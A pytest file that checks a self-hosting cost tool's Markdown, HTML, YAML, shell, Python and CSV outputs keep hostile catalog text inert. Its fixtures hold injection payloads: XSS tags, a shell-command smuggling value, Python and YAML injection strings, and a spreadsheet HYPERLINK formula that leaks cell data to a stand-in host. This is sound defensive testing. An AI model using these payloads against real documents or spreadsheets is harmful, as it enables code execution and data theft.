"""Hostile text in the documents selfhost writes: catalog strings never become markup, links, table
columns or lines of a config file (issue 11, "injection into documents").

Each document is read back by a real reader: Markdown rendered by markdown-it-py (CommonMark with
GitHub's tables; it ships with Rich), HTML by the standard library's parser, YAML by PyYAML, the
shell script by `sh -n`, client.py by Python's own parser. The check is twice: no element, link
or line the catalog did not ask for, and the hostile text shown exactly as written.
"""

from __future__ import annotations

import ast
import dataclasses
import subprocess
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml
from markdown_it import MarkdownIt
from typer.testing import Result

from selfhost.escape import md_cell, md_code, md_fence, md_text, one_line

DATA = Path(__file__).resolve().parents[1] / "data"
#: Markup, links, an image, code, a table pipe, line breaks (also YAML's U+2028) that open a
#: heading, a list and a shell command, entities, and a fence.
HOSTILE = (
    "<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![i](http://e/i.png) "
    "`tick` *em* _u_ | pipe &amp; &lt;b&gt; ```\n# heading\n- item\ntouch pwned\u2028    indented"
)
FLAT = " ".join(HOSTILE.splitlines())  # what a one-line slot shows: every line break a space
#: The only elements the documents themselves produce.
MARKDOWN_TAGS = {
    "h1",
    "h2",
    "h3",
    "p",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "code",
    "pre",
    "em",
    "br",
    "img",
}


class Elements(HTMLParser):
    """Every start tag with its attributes, and the text, of an HTML document."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "br":
            self.text.append(" ")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def read_html(text: str) -> Elements:
    parser = Elements()
    parser.feed(text)
    parser.close()
    return parser


def render_markdown(text: str) -> Elements:
    return read_html(MarkdownIt("commonmark").enable("table").render(text))


def assert_inert(page: Elements, allowed: set[str]) -> None:
    """No element outside ``allowed``, no image but the chart, no link at all."""
    tags = {tag for tag, _ in page.tags}
    assert tags <= allowed, f"unexpected elements {tags - allowed}"
    assert not [a for tag, a in page.tags if tag == "a"], "a catalog string became a link"
    assert all("onerror" not in attrs for _, attrs in page.tags)
    assert all(str(attrs.get("src", "")).endswith(".svg") for tag, attrs in page.tags if tag == "img")


def shown(page: Elements) -> str:
    """The document's text as a reader sees it, whitespace runs as one space."""
    return " ".join("".join(page.text).split())


def one_space(text: str) -> str:
    return " ".join(text.split())


def hostile_overlay(path: Path) -> Path:
    """Llama 3.1 8B, the L40S and its RunPod offer with HOSTILE in every free-text field."""
    models = yaml.safe_load((DATA / "models.yaml").read_text(encoding="utf-8"))["models"]
    gpus = yaml.safe_load((DATA / "gpu_prices.yaml").read_text(encoding="utf-8"))
    model = next(m for m in models if m["id"] == "llama-3.1-8b")
    gpu = next(g for g in gpus["gpus"] if g["id"] == "l40s-48gb")
    for entry in (model, gpu):
        entry.update(name=f"Evil {HOSTILE}", source=f"https://example.com/ {HOSTILE}", notes=HOSTILE)
    path.write_text(yaml.safe_dump({"models": [model], "gpus": [gpu]}, allow_unicode=True), encoding="utf-8")
    return path


# --------------------------------------------------------------------------- the escaping itself


@pytest.mark.parametrize("text", [HOSTILE, "-$4,330", "1. first", "+x", "= y", "a_b_c", "\\", "#", " lead"])
def test_markdown_prose_renders_as_exactly_the_text(text: str) -> None:
    page = render_markdown(md_text(text))
    assert_inert(page, {"p"})
    assert shown(page) == one_space(text)


def test_a_table_cell_keeps_its_pipes_and_its_column() -> None:
    table = f"| a | b |\n|---|---|\n| {md_cell(HOSTILE)} | {md_code('x|`y`', in_table=True)} |\n"
    page = render_markdown(table)
    assert_inert(page, MARKDOWN_TAGS)
    cells = [t for t, _ in page.tags if t == "td"]
    assert len(cells) == 2
    assert one_space(FLAT) in shown(page) and "x|`y`" in "".join(page.text)


def test_a_fence_outlasts_the_backticks_inside() -> None:
    page = render_markdown(md_fence("echo ```\n# not a heading"))
    assert [t for t, _ in page.tags] == ["pre", "code"]
    assert "".join(page.text).strip() == "echo ```\n# not a heading"


@pytest.mark.parametrize("text", [HOSTILE, "a\rb", "a\x85b", "a\u2029b", "\x1b[31m"])
def test_one_line_text_cannot_end_a_comment(text: str) -> None:
    line = one_line(text)
    assert len(f"# {line}\nkey: 1\n".splitlines()) == 2
    assert yaml.safe_load(f"# {line}\nkey: 1\n") == {"key": 1}


# --------------------------------------------------------------------------- the budget review


def report(cli: Callable[..., Result], tmp_path: Path, name: str) -> str:
    overlay = hostile_overlay(tmp_path / "evil.yaml")
    out = tmp_path / name
    args = ("report", "--rps", "1", "-m", "llama-3.1-8b", "-g", "l40s", "--uncertainty", "0")
    result = cli(*args, "--catalog", str(overlay), "-o", str(out))
    assert result.exit_code == 0, result.output
    return out.read_text(encoding="utf-8")


def test_markdown_review_shows_catalog_text_and_runs_none_of_it(cli: Callable[..., Result], tmp_path: Path):
    page = render_markdown(report(cli, tmp_path, "review.md"))
    assert_inert(page, MARKDOWN_TAGS)
    text = shown(page)
    assert one_space(f"https://example.com/ {FLAT}") in text  # the model's and the GPU's source, whole


def test_html_review_shows_catalog_text_and_runs_none_of_it(cli: Callable[..., Result], tmp_path: Path):
    page = read_html(report(cli, tmp_path, "review.html"))
    tags = {tag for tag, _ in page.tags}
    assert "script" not in tags and "img" not in tags and "a" not in tags
    assert one_space(f"https://example.com/ {FLAT}") in shown(page)


# --------------------------------------------------------------------------- the serving kit


@pytest.fixture
def hostile_spec() -> Any:
    from deploy_cases import llama_awq_2xa100

    spec = llama_awq_2xa100()
    return dataclasses.replace(
        spec,
        model_name=f"Evil {HOSTILE}",
        weights=f"org/x'; touch pwned; echo '{HOSTILE}",
        gpu=f"gpu {HOSTILE}",
    )


def test_kit_readme_shows_catalog_text_and_runs_none_of_it(hostile_spec: Any) -> None:
    from selfhost.deploy.readme import readme_md
    from selfhost.deploy.spec import KitSettings

    page = render_markdown(readme_md(hostile_spec, KitSettings(), self_signed=True))
    assert_inert(page, MARKDOWN_TAGS | {"strong", "ol"})
    assert one_space(f"Evil {FLAT} on 2x gpu {FLAT}") in shown(page)  # the heading, whole


def test_kit_scripts_and_configs_keep_catalog_text_in_comments_and_quotes(
    hostile_spec: Any, tmp_path: Path
) -> None:
    from selfhost.deploy.compose import compose_document, compose_yaml
    from selfhost.deploy.prometheus import alerts_yaml, prometheus_yaml
    from selfhost.deploy.readme import client_py
    from selfhost.deploy.serve import serve_argv, serve_sh
    from selfhost.deploy.spec import KitSettings

    settings = KitSettings()
    kit, bin_dir = tmp_path / "kit", tmp_path / "bin"
    kit.mkdir()
    bin_dir.mkdir()
    (kit / "serve.sh").write_text(serve_sh(hostile_spec, settings), encoding="utf-8")
    launch = serve_argv(hostile_spec, settings)
    fake = bin_dir / launch[0]  # the engine's launcher, replaced by one that records its arguments
    fake.write_text('#!/bin/sh\nprintf "%s\\0" "$@" > "$ARGV_FILE"\n', encoding="utf-8")
    fake.chmod(0o755)
    argv_file = tmp_path / "argv"
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "ARGV_FILE": str(argv_file)}
    run = subprocess.run(["sh", str(kit / "serve.sh")], cwd=kit, env=env, capture_output=True, timeout=30)
    assert run.returncode == 0, run.stderr
    assert argv_file.read_bytes().split(b"\0")[:-1] == [a.encode() for a in launch[1:]]
    assert not list(tmp_path.rglob("pwned")), "text from the catalog ran as a command"
    assert yaml.safe_load(compose_yaml(hostile_spec, settings)) == compose_document(hostile_spec, settings)
    for text in (alerts_yaml(hostile_spec), prometheus_yaml(hostile_spec, settings)):
        yaml.safe_load(text)  # parses: no comment line broke out
    evil_name = dataclasses.replace(hostile_spec, served_model_name='m"""; import os #')
    tree = ast.parse(client_py(evil_name, settings))
    models = [
        kw.value
        for node in ast.walk(tree)
        if isinstance(node, ast.Call)
        for kw in node.keywords
        if kw.arg == "model"
    ]
    assert [ast.literal_eval(m) for m in models] == ['m"""; import os #']
    assert not [n for n in ast.walk(tree) if isinstance(n, ast.Import) and n.names[0].name == "os"][1:]


# --------------------------------------------------------------------------- the router config


def test_router_config_keeps_workload_names_in_their_comment_and_value(
    cli: Callable[..., Result], tmp_path: Path
) -> None:
    name = 'chat"\n  - model_name: stolen\n# x'
    workloads = tmp_path / "w.yaml"
    workloads.write_text(
        yaml.safe_dump(
            {
                "workloads": [
                    {
                        "name": name,
                        "requests_per_s": 2,
                        "input_tokens": 1000,
                        "output_tokens": 300,
                        "model": "llama-3.1-8b",
                    }
                ]
            }
        ),
        encoding="utf-8",
    )
    result = cli("plan", str(workloads), "--router", "litellm")
    assert result.exit_code == 0, result.output
    config = yaml.safe_load(result.stdout)
    assert [e["model_name"] for e in config["model_list"]] == [name]


# --------------------------------------------------------------------------- control characters


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("\x1b[31mRED\x1b]0;title\x07", "U+001B"),
        ("evil\u202etxt.exe", "U+202E"),
        ("a\rb", "U+000D"),
        ("nul\x00", "U+0000"),
        ("c1\x9b31m", "U+009B"),
    ],
)
def test_text_with_control_characters_is_refused_where_it_is_read(
    cli: Callable[..., Result], tmp_path: Path, text: str, code: str
) -> None:
    """Terminal escapes, bidi overrides and NULs never reach a table, a note or a document."""
    models = yaml.safe_load((DATA / "models.yaml").read_text(encoding="utf-8"))["models"]
    model = {**next(m for m in models if m["id"] == "llama-3.1-8b"), "name": text}
    overlay = tmp_path / "evil.yaml"
    overlay.write_text(yaml.safe_dump({"models": [model]}), encoding="utf-8")
    result = cli("catalog", "show", "llama-3.1-8b", "--catalog", str(overlay))
    assert result.exit_code == 2, result.output
    assert "\x1b" not in result.output and "\u202e" not in result.output
    assert code in result.stderr and "models[0] (id 'llama-3.1-8b').name" in result.stderr

    workloads = tmp_path / "w.yaml"
    workloads.write_text(
        yaml.safe_dump(
            {
                "workloads": [
                    {
                        "name": "chat",
                        "description": text,
                        "requests_per_s": 1,
                        "input_tokens": 100,
                        "output_tokens": 10,
                        "model": "llama-3.1-8b",
                    }
                ]
            }
        ),
        encoding="utf-8",
    )
    result = cli("plan", str(workloads))
    assert result.exit_code == 2, result.output
    assert code in result.stderr and "workloads[0] (name 'chat').description" in result.stderr


# --------------------------------------------------------------------------- CSV for spreadsheets


def test_csv_cells_that_look_like_formulas_stay_text(cli: Callable[..., Result], tmp_path: Path) -> None:
    """OWASP's CSV-injection advice: a cell starting with = + - @ is prefixed with ', numbers are not."""
    import csv
    import io

    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    overlay = tmp_path / "offer.yaml"
    overlay.write_text(
        yaml.safe_dump(
            {
                "rental_offers": [
                    {
                        "id": "formula-l40s",
                        "provider": formula,
                        "gpu": "l40s-48gb",
                        "usd_per_gpu_hour": 0.01,
                        "pricing": "on-demand",
                        "source": "@SUM(1+1)",
                        "as_of": "2025-06-01",
                    }
                ]
            }
        ),
        encoding="utf-8",
    )
    result = cli(
        "crossover",
        "--rps",
        "5",
        "-m",
        "llama-3.1-8b",
        "-g",
        "l40s",
        "--catalog",
        str(overlay),
        "--format",
        "csv",
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and rows[0]["provider"] == "'" + formula
    assert all(not v.startswith(("=", "+", "@")) for row in rows for v in row.values())
    assert float(rows[0]["usd_per_gpu_hour"]) == 0.01  # numbers stay numbers


def test_csv_text_leaves_numbers_and_plain_text_alone() -> None:
    from selfhost.escape import csv_text

    assert [csv_text(t) for t in ("-4330", "+1.5", "RunPod", "a=b", "-x", "@x", "\tx")] == [
        "-4330",
        "+1.5",
        "RunPod",
        "a=b",
        "'-x",
        "'@x",
        "'\tx",
    ]
